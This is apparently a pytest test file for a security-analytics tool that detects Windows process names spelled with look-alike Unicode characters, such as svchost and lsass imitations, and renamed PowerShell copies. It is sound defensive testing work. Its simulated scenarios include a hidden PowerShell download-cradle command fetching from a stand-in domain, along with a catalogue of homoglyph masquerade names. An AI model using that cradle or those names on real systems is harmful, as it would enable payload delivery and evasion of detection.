"""An image named with look-alike characters to read as a Windows binary gets a step (task F3, T1036.005).

``C:\\ProgramData\\svchοst.exe`` with a Greek ``ο`` (U+03BF) reads as ``svchost.exe`` in a process
list, and a rule matching ``svchost.exe`` by name misses it.  The image name is the field a person
reads, so it is the one folded (``analytics.image_lookalikes``): the step names each look-alike
character by its code point.  A PE ``OriginalFileName`` written with look-alike letters
(``PowеrShell.EXE``, a Cyrillic ``е``) is reported too, but never read as PowerShell: whoever edits
a version resource could write any name, and no benign binary may be read as PowerShell by folding.
Localized tools with non-ASCII names read as no Windows binary and get no step.

Then through the real path (simulate -> ingest -> embedded store -> detect) with the simulator's
own scenarios and four more: an svchost.exe look-alike beaconing from ProgramData, an
``Isass.exe`` (a capital I for the l, which UTS #39 folds to an l), renamed
PowerShell copies with a command line of their own per host (no member: the step names the
one-host processes), and a localized vendor tool rolled out to as many hosts.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from analytics.checks import cluster_checks
from analytics.confusables import fold_name
from analytics.explain import Explanation
from analytics.image_lookalikes import IMITATED, imitated_binary, imitated_original
from analytics.lineage import image_name
from analytics.original_names import renamed_from
from analytics.renamed_binaries import lookalike_image_check, masquerade_checks, renamed_copy_check
from graphsiem.model import Entity
from graphsiem.simulator import DEFAULT_SCENARIOS
from tests.analytics.simulated import simulated_detection

OMICRON = "\u03bf"  # GREEK SMALL LETTER OMICRON
CYRILLIC_O = "\u043e"
CYRILLIC_IE = "\u0435"
LOOKALIKE_IMAGE = f"C:\\ProgramData\\Microsoft\\svch{OMICRON}st.exe"
CAPITAL_I_IMAGE = "C:\\Users\\Public\\Isass.exe"  # a capital I for the l (review T10, finding 7)
LOCALIZED_IMAGE = "C:\\Program Files\\\u041a\u043e\u043d\u0442\u0443\u0440\\\u041f\u0440\u043e\u0432\u043e\u0434\u043d\u0438\u043a.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
COPY = "C:\\Users\\Public\\svcupd.exe"
BEACON_DOMAIN = "telemetry-sync-cdn.example"
CRADLE_DOMAIN = "img-share-cdn.example"
VENDOR_DOMAIN = "updates.kontur-soft.example"
CAPITAL_I_DOMAIN = "auth-relay-cdn.example"


def _process(image: str, original: str | None = None, line: str | None = None) -> Entity:
    value = line or f'"{image}" -k netsvcs'
    props = {"image": image, "command_line": value}
    if original is not None:
        props["original_file_name"] = original
    return Entity("process", value.lower(), value, props)


# -- which names imitate a Windows binary -------------------------------------------------------


@pytest.mark.parametrize(("name", "imitates"), [
    (f"svch{OMICRON}st.exe", "svchost.exe"),
    (f"p{CYRILLIC_O}wershell.exe", "powershell.exe"),
    ("SVCH\u039fST.EXE", "svchost.exe"),  # a Greek capital omicron: case does not hide it
    ("\u0455vchost.exe", "svchost.exe"),  # a Cyrillic dze
    ("lsa\u0455s.exe", "lsass.exe"),
    ("svc\u200bhost.exe", "svchost.exe"),  # a zero-width space shows nothing
    ("svc\u202ehost.exe", "svchost.exe"),  # a bidi override neither
    ("\uff53\uff56\uff43host.exe", "svchost.exe"),  # full-width letters
    ("svchost .exe", "svchost.exe"),  # a space before the extension
    ("svch0st.exe", "svchost.exe"),  # a zero for an o
    ("svcho\u0301st.exe", "svchost.exe"),  # an accent written apart from its o (decomposed)
    (f"expl{CYRILLIC_O}rer.exe", "explorer.exe"),
    ("c\u0435rtutil.exe", "certutil.exe"),
])
def test_a_name_that_reads_as_a_windows_binary_imitates_it(name, imitates):
    found = imitated_binary(name)
    assert found is not None and found.imitates == imitates


@pytest.mark.parametrize("name", [
    "svchost.exe", "SVCHOST.EXE", "PowerShell.exe", "net1.exe", "PsExec64.exe", "7zG.exe", "chrome_proxy.exe",
    "\u041f\u0440\u043e\u0432\u043e\u0434\u043d\u0438\u043a.exe",  # Russian "Explorer" (a localized tool)
    "\u00c9diteur.exe", "caf\u00e9.exe", "\u00dcberweisung.exe", "\u8a2d\u5b9a.exe",
    "\u0395\u03c1\u03b3\u03b1\u03bb\u03b5\u03af\u03bf.exe",  # Greek "tool"
    "svchost_helper.exe", "ctupdate_v2.exe",
])
def test_a_real_or_localized_name_imitates_nothing(name):
    assert imitated_binary(name) is None


def test_no_two_imitated_binaries_read_alike():
    assert len({fold_name(name) for name in IMITATED}) == len(IMITATED)


def test_an_original_name_with_lookalike_letters_is_reported_but_never_read_as_powershell():
    forged = f"Pow{CYRILLIC_IE}rShell.EXE"
    assert renamed_from("svcupd.exe", forged) is None
    copy = _process(COPY, forged, "svcupd.exe -nop -c x")
    assert image_name(copy.value, copy.props) == "svcupd.exe"  # no lineage pair of powershell.exe
    found = imitated_original(forged)
    assert found is not None and found[1].imitates == "powershell.exe"
    step = lookalike_image_check([copy], "ws-1")
    assert step is not None
    assert step.check.startswith("the PE OriginalFileName of svcupd.exe is written to read as powershell.exe "
                                 f"with look-alike characters (Pow{CYRILLIC_IE}rShell.EXE: '{CYRILLIC_IE}' "
                                 "U+0435 CYRILLIC SMALL LETTER IE for 'e'; spelled Pow[U+0435]rShell.EXE")
    localized = _process(LOCALIZED_IMAGE, "\u041f\u0440\u043e\u0432\u043e\u0434\u043d\u0438\u043a.exe")
    assert imitated_original(localized.props["original_file_name"]) is None
    assert masquerade_checks([localized], "ws-1") == ()


# -- the step -------------------------------------------------------------------------------------


def test_the_lookalike_step_names_the_code_points_and_keeps_attacker_text_plain():
    process = _process(LOOKALIKE_IMAGE)
    step = lookalike_image_check([process], "ws-1, ws-2")
    assert step is not None and step.feature is None
    assert step.check.startswith(f"svch{OMICRON}st.exe imitates svchost.exe with look-alike characters "
                                 f"('{OMICRON}' U+03BF GREEK SMALL LETTER OMICRON for 'o'; spelled svch[U+03BF]st.exe; "
                                 f"image {LOOKALIKE_IMAGE}; no PE OriginalFileName)")
    assert "T1036.005" in step.check and "ws-1, ws-2" in step.check
    hidden = lookalike_image_check([_process("C:\\Users\\Public\\svc\u202ehost.exe\n")], "ws-1")
    assert hidden is not None and "an invisible U+202E RIGHT-TO-LEFT OVERRIDE" in hidden.check
    assert "\u202e" not in hidden.check and "\n" not in hidden.check


def test_a_copy_under_a_lookalike_of_its_own_name_is_one_step_that_says_it_is_a_copy():
    copy = _process(f"C:\\Users\\Public\\p{CYRILLIC_O}wershell.exe", "PowerShell.EXE")
    assert renamed_copy_check([copy], "ws-1") is None  # the look-alike step says it
    (step,) = masquerade_checks([copy], "ws-1")
    assert (f"p{CYRILLIC_O}wershell.exe imitates powershell.exe with look-alike characters ('{CYRILLIC_O}' "
            "U+043E CYRILLIC SMALL LETTER O for 'o'") in step.check
    assert "PE OriginalFileName PowerShell.EXE: a copy of powershell.exe under a look-alike name" in step.check


def test_the_step_is_in_the_checks_of_a_cluster_with_the_lookalike():
    process = _process(LOOKALIKE_IMAGE)
    pivot = Entity("domain", BEACON_DOMAIN, BEACON_DOMAIN)
    steps = cluster_checks(Explanation(summary="", features=()), pivot=pivot, entities=[pivot, process],
                           hosts=["ws-1", "ws-2"], first_seen=0.0, features={})
    assert any(s.check.startswith(f"svch{OMICRON}st.exe imitates svchost.exe") for s in steps)


# -- through the real path ------------------------------------------------------------------------


def _scenario(name: str, kind: str, domain: str, at: str, steps: str) -> str:
    """A last-day fan-out to 6-12 workstations pivoting on ``domain``: the YAML of ``steps``."""
    return (f"name: {name}\nlabel: {name}\nkind: {kind}\n"
            "hosts: {group: workstations, fraction: 0.04, min: 6, max: 12}\n"
            f"pivot: {{type: domain, value: {domain}}}\nactivities:\n"
            f'  - schedule: {{every: once, day: last, at: "{at}", spread_minutes: 20}}\n    steps:\n{steps}')


def _one_process(parent: str, image: str, line: str, domain: str, port: int, copy_of: str | None = None) -> str:
    """The steps of one process that ``parent`` starts and that connects to ``domain``."""
    copy = f"        copy_of: '{copy_of}'\n" if copy_of else ""
    return (f"      - action: process\n        parent: {parent}\n        image: '{image}'\n{copy}"
            f"        command_line: '{line}'\n      - {{action: connect, domain: {domain}, port: {port}}}\n")


SCENARIOS = {
    "lookalike_svchost": _scenario("lookalike_svchost", "attack", BEACON_DOMAIN, "11:20", _one_process(
        "services", LOOKALIKE_IMAGE, f'"{LOOKALIKE_IMAGE}" -k netsvcs', BEACON_DOMAIN, 443)),
    # {{random}}: each host's own command line, so no copy is a member
    "renamed_per_host": _scenario("renamed_per_host", "attack", CRADLE_DOMAIN, "13:40", _one_process(
        "explorer", COPY, f'svcupd.exe -nop -w hidden -c "iwr http://{CRADLE_DOMAIN}/{{{{random}}}}.png"',
        CRADLE_DOMAIN, 80, copy_of=POWERSHELL)),
    "capital_i_lsass": _scenario("capital_i_lsass", "attack", CAPITAL_I_DOMAIN, "12:30", _one_process(
        "explorer", CAPITAL_I_IMAGE, f'"{CAPITAL_I_IMAGE}" -s', CAPITAL_I_DOMAIN, 443)),
    "localized_tool": _scenario("localized_tool", "benign", VENDOR_DOMAIN, "15:10", _one_process(
        "schedule", LOCALIZED_IMAGE, f'"{LOCALIZED_IMAGE}" /update', VENDOR_DOMAIN, 443)),
}


@pytest.fixture(scope="module")
def clusters(tmp_path_factory):
    root: Path = tmp_path_factory.mktemp("lookalike")
    extra = []
    for name, text in SCENARIOS.items():
        path = root / f"{name}.yaml"
        path.write_text(text, encoding="utf-8")
        extra.append(str(path))
    result, _ = simulated_detection(root, hosts=120, days=2, seed=7, density=0.2, scenarios=[*DEFAULT_SCENARIOS, *extra])
    return result.clusters


def _cluster_of(clusters, domain: str):
    found = [c for c in clusters if ("domain", domain) in [e.ref for e in c.entities]]
    assert found, [c.pivot.value for c in clusters]
    return found[0]


def _masquerade_steps(cluster) -> list[str]:
    return [s.check for s in cluster.explanation.checks if "T1036" in s.check]


def test_the_svchost_lookalike_member_gets_the_step_through_ingest(clusters):
    cluster = _cluster_of(clusters, BEACON_DOMAIN)
    assert any(e.type == "process" and e.props.get("image") == LOOKALIKE_IMAGE for e in cluster.entities)
    (step,) = _masquerade_steps(cluster)
    assert step.startswith(f"svch{OMICRON}st.exe imitates svchost.exe with look-alike characters "
                           f"('{OMICRON}' U+03BF GREEK SMALL LETTER OMICRON for 'o'; spelled svch[U+03BF]st.exe")


def test_a_capital_i_for_an_l_gets_the_step_through_ingest(clusters):
    cluster = _cluster_of(clusters, CAPITAL_I_DOMAIN)
    (step,) = _masquerade_steps(cluster)
    assert step.startswith("Isass.exe imitates lsass.exe with look-alike characters "
                           "('I' U+0049 LATIN CAPITAL LETTER I for 'l'; spelled Isass.exe")


def test_per_host_renamed_copies_get_the_renamed_step_through_ingest(clusters):
    cluster = _cluster_of(clusters, CRADLE_DOMAIN)
    assert not any(e.type == "process" and "svcupd.exe" in e.value for e in cluster.entities)  # each on one host
    (step,) = _masquerade_steps(cluster)
    assert f"reached domain {CRADLE_DOMAIN}: svcupd.exe is a renamed copy of powershell.exe (PE OriginalFileName " in step
    assert f"on each of {len(cluster.hosts)} hosts" in step


def test_no_other_cluster_gets_a_masquerade_step(clusters):
    _cluster_of(clusters, VENDOR_DOMAIN)  # the localized tool's rollout is a cluster, and quiet
    named = {c.pivot.value: _masquerade_steps(c) for c in clusters if _masquerade_steps(c)}
    assert set(named) <= {BEACON_DOMAIN, CRADLE_DOMAIN, CAPITAL_I_DOMAIN}, named
